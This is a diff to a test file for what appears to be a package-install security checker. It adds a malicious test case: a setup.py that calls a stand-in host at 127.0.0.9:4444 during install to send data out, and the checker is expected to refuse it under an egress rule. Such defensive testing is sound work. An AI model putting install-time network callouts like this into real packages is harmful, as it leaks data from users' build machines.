@@ -113,6 +113,26 @@ export const MALICIOUS_CASES: MaliciousCase[] = [
     subject: "127.0.0.9:4444",
   },
   {
+    title: "setup.py sending data out through the download proxy",
+    projects: [
+      setupPayload("evil-egress", "evil_egress", [
+        "import urllib.request",
+        "try:",
+        "    urllib.request.urlopen('http://127.0.0.9:4444/collect?host=build', timeout=2).read()",
+        "except Exception:",
+        "    pass",
+        "from setuptools import setup",
+        "setup(name='evil-egress', version='1.0', packages=['evil_egress'])",
+        "",
+      ].join("\n")),
+    ],
+    request: "evil-egress",
+    package: "evil-egress",
+    phase: "fetch",
+    ruleId: "egress-refused",
+    subject: "127.0.0.9:4444",
+  },
+  {
     title: "cmdclass override running a shell",
     projects: [
       setupPayload("evil-cmdclass", "evil_cmdclass", [
